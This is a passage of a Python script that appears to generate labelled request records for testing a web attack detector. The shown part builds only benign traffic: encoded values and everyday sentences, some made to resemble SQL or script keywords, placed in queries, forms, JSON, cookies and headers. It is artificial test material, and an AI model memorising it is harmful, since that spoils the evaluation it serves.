    "https://example.com/redirect?next=%2Fdashboard%3Ftab%3Dsettings",
    "https://calendar.example.com/event?title=Team%20Sync%20%2B%20Lunch",
    "https://example.com/a%20b/c%2Bd",
]
PROSE = [
    "Please encode the file name before uploading it",
    "The union agreed to the new schedule; select members will attend",
    "Order by Friday to get free shipping",
    "Drop the table cloth off at the dry cleaner",
    "Our script for the video is ready for review",
    "The alert came in at 3 am and was resolved by 4",
    "Hex nuts and bolts, size M8, 200 pieces",
    "Base camp is at 4,200 m; the ping from the satellite phone was weak",
    "Café Ünïcode & Sons, 12 Rue de l'Église",
    "Tom & Jerry's 50% discount ends Sunday",
    "Meeting notes: 1) budget 2) hiring 3) Q&A",
    "full width ＡＢＣ letters appear in the Japanese catalogue",
    "Address: 10 Downing St\tLondon\tSW1A 2AA",
    "The cat slept on the system unit all afternoon",
    "Please review the ../ relative links in the handbook",
    "His password hint was his dog's name; we reset it",
    "1 or 2 people per table, no more than 10 in the room",
    "Our sleep study runs 5 nights",
]

# values in the same placements as the attacks, as real clients send them
B64_VALUES = [base64.b64encode(s.encode()).decode() for s in (
    '{"alg":"RS256","typ":"JWT"}', "hello world", "user:1234:2024-06-01", '{"cart":[1,2,3]}',
    "Zoë's notes about the trip", "<p>rich text from the editor</p>")]
QUERY_VALUES = ["O%27Neil", "Caf%C3%A9", "t-shirt+%26+hoodie", "100%25+cotton", "a%2Bb", "New+York",
                "Jos%C3%A9+Mar%C3%ADa", "%E6%9D%B1%E4%BA%AC", "C%2B%2B", "rock+%27n%27+roll", "50%2F50",
                "%22quoted+phrase%22", "2024-06-01T10%3A00%3A00Z", "me%40example.org"]
JSON_RAW = ['"Zo\\u00eb"', '"Jos\\u00e9 Mar\\u00eda"', '"caf\\u00e9 \\u0026 bar"', '"O\\u0027Neil"',
            '"\\u6771\\u4eac"', '"line one\\nline two"', '"tab\\tseparated"', '"quote \\u0022inside\\u0022"',
            '"5 \\u003c 10"', '"a \\u003e b"']
PLAIN_VALUES = ["Tom &amp; Jerry", "&copy; 2024 Example Ltd", "caf&eacute;", "5 &lt; 10", "&quot;Hello&quot;",
                "c++ or rust", "+1 555 0100", "A+ grade", "0x1F6FEB", "#ff00aa", "東京タワー",
                "ＡＢＣ株式会社", "Straße", "10\tDowning St", "O'Neil", "it's fine -- really",
                "Rock 'n' Roll", "Q&A / FAQ", "50% off", "1/2 cup sugar", "C:\\Users\\ann\\report.docx",
                "report (final).pdf", "my-file_v2.tar.gz", "a.b.c@example.org"]
COOKIE_VALUES = ["%7B%22theme%22%3A%22dark%22%7D", "en-GB%2Cen%3Bq%3D0.9", "eyJ1aWQiOjQyfQ%3D%3D",
                 "tz%3DEurope%2FLondon", "last%3D%2Fapi%2Fusers%3Fpage%3D2"]
HEADER_VALUES = ["2024-06-01", "v2; charset=utf-8", "dGVzdDp0ZXN0", "en-US,en;q=0.9", "gzip, deflate, br",
                 "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"]


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(SLACK_TEXTS, prefix)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, prefix, n)
    for b in B64_VALUES:
        for rec in (_get(_query("/api/users", [("data", b), ("page", "1")])),
                    _form("/admin/users/search", [("csrf_token", "t0k3n"), ("payload", b)]),
                    _json("/api/users", {"email": "a@example.org", "data_b64": b})):
            n += 1
            yield {**rec, "id": f"{prefix}-b64-{n:04d}", "category": "benign", "placement": "mixed", "payload": b}
    for k, w in enumerate(QUERY_VALUES):
        name = NAMES[k % 4]
        for rec in (_raw_query(name, w), _raw_form("/admin/users/search", [("csrf_token", "t0k3n"), (name, w)]),
                    _raw_form("/me/location", [("csrf_token", "t0k3n"), ("place", w)])):
            n += 1
            yield {**rec, "id": f"{prefix}-pct-{n:04d}", "category": "benign", "placement": "mixed", "payload": w}
    for raw in JSON_RAW:
        for uri, name in (("/api/users", "name"), ("/api/search", "query")):
            n += 1
            body = '{"email": "a@example.org", "' + name + '": ' + raw + "}"
            yield {**_json(uri, {}), "body": body, "id": f"{prefix}-jsonu-{n:04d}", "category": "benign",
                   "placement": "json", "payload": raw}
    for k, v in enumerate(PLAIN_VALUES):
        for place, rec in decoded_places(k, v):
            n += 1
            yield {**rec, "id": f"{prefix}-value-{n:04d}", "category": "benign", "placement": place, "payload": v}
    for v in COOKIE_VALUES:
        n += 1
        rec = {**_get("/api/users?page=1"), "headers": {"User-Agent": UA, "Accept": "application/json",
                                                        "Cookie": "session=abc123; prefs=" + v}}
        yield {**rec, "id": f"{prefix}-cookie-{n:04d}", "category": "benign", "placement": "cookie", "payload": v}
    for v in HEADER_VALUES:
        n += 1
        rec = {**_get("/api/users?page=1"), "headers": {"User-Agent": UA, "Accept": "application/json",
                                                        "X-Api-Version": v}}
        yield {**rec, "id": f"{prefix}-header-{n:04d}", "category": "benign", "placement": "header", "payload": v}
    for text in ["rest of the day", "100 + 20 = 120", "search: \"exact phrase\" -exclude",
                 "Ann O'Neil <ann@example.org>"]:
        n += 1
        rec = _json("/api/users", {"name": "Ann", "notes": text, "tags": ["a+b", "c#", "f#"]})
        yield {**rec, "id": f"{prefix}-plus-{n:04d}", "category": "benign", "placement": "json", "payload": text}


if __name__ == "__main__":
    print_records(attacks(), benign())
